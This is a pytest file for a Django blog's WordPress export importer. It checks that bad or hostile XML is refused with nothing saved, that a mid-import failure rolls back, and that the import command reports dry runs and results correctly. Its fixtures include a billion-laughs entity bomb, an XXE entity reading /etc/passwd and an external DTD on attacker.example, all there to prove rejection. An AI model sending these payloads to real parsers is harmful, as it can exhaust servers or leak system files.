"""Files that must be refused before anything is written."""

import io

import pytest
from django.core.management import CommandError, call_command

from blog.models import Post
from imports.models import ImportRun
from imports.services import import_export
from imports.wxr import WxrError
from tests.imports.conftest import BLOG

pytestmark = pytest.mark.django_db

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<rss><channel><title>&lol3;</title></channel></rss>"""
EXTERNAL = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss><channel><title>&xxe;</title></channel></rss>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE rss SYSTEM "http://attacker.example/evil.dtd"><rss><channel/></rss>"""


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (BILLION_LAUGHS, "declares a DTD or entities"),
        (EXTERNAL, "declares a DTD or entities"),
        (EXTERNAL_DTD, "declares a DTD or entities"),
        (BLOG.read_bytes()[:5000], "not well-formed XML"),  # truncated
        (b"<html><body>Hello</body></html>", "not a WordPress export"),
        (b"<rss><channel><title>x</title></channel></rss>", "no wp:wxr_version"),
        (b"", "not well-formed XML"),
        (BLOG.read_bytes().replace(b"<wp:post_id>11</wp:post_id>", b"<wp:post_id>x</wp:post_id>"),
         "damaged entries"),
        (BLOG.read_bytes().replace(b">1.2</wp:wxr", b">9.0</wp:wxr"),
         "version 9.0"),
    ],
)  # fmt: skip
def test_bad_files_are_refused_and_import_nothing(course, content, words):
    with pytest.raises(WxrError, match=words):
        import_export(course=course, source=io.BytesIO(content))
    assert not Post.objects.exists()


def test_a_failure_midway_rolls_everything_back(course, monkeypatch):
    from imports import services

    def boom(self, items):
        raise RuntimeError("disk full")

    monkeypatch.setattr(services.Importer, "_grant_awards", boom)
    with pytest.raises(RuntimeError):
        import_export(course=course, source=BLOG)
    assert not Post.objects.exists()


def test_command_refuses_with_a_clear_message(course, tmp_path):
    bad = tmp_path / "bomb.xml"
    bad.write_bytes(BILLION_LAUGHS)
    with pytest.raises(CommandError, match="DTD or entities"):
        call_command("import_wordpress", str(bad), course=course.slug)
    assert not ImportRun.objects.exists()
    with pytest.raises(CommandError, match="No course"):
        call_command("import_wordpress", str(BLOG), course="nope")


def test_command_imports_and_dry_run_reports(course, media_zip):
    out = io.StringIO()
    call_command("import_wordpress", str(BLOG), course=course.slug, dry_run=True, stdout=out)
    assert "Dry run: nothing was changed." in out.getvalue()
    assert "Posts:\n  2 published, 3 drafts\n  5 new, 0 updated\n  2 skipped\n" in out.getvalue()
    assert not Post.objects.exists()
    out = io.StringIO()
    call_command("import_wordpress", str(BLOG), course=course.slug, media=str(media_zip),
                 award_category="Comrade's Corner", stdout=out)  # fmt: skip
    text = out.getvalue()
    assert "  6 approved, 1 waiting for moderation\n" in text
    assert "  1 pingback and 1 trackback skipped\n" in text
    assert "  - missing: 2017/04/gone.jpg\n" in text
    assert "  - Shortcode [footnote] kept as text in Classic days\n" in text
    assert "  “Comrade's Corner” granted to 1 post.\n" in text
    assert "  3 placeholders: Anna Akhmatova, Boris P., carl.\n" in text
    assert Post.objects.count() == 5
    assert ImportRun.objects.get().status == "done"
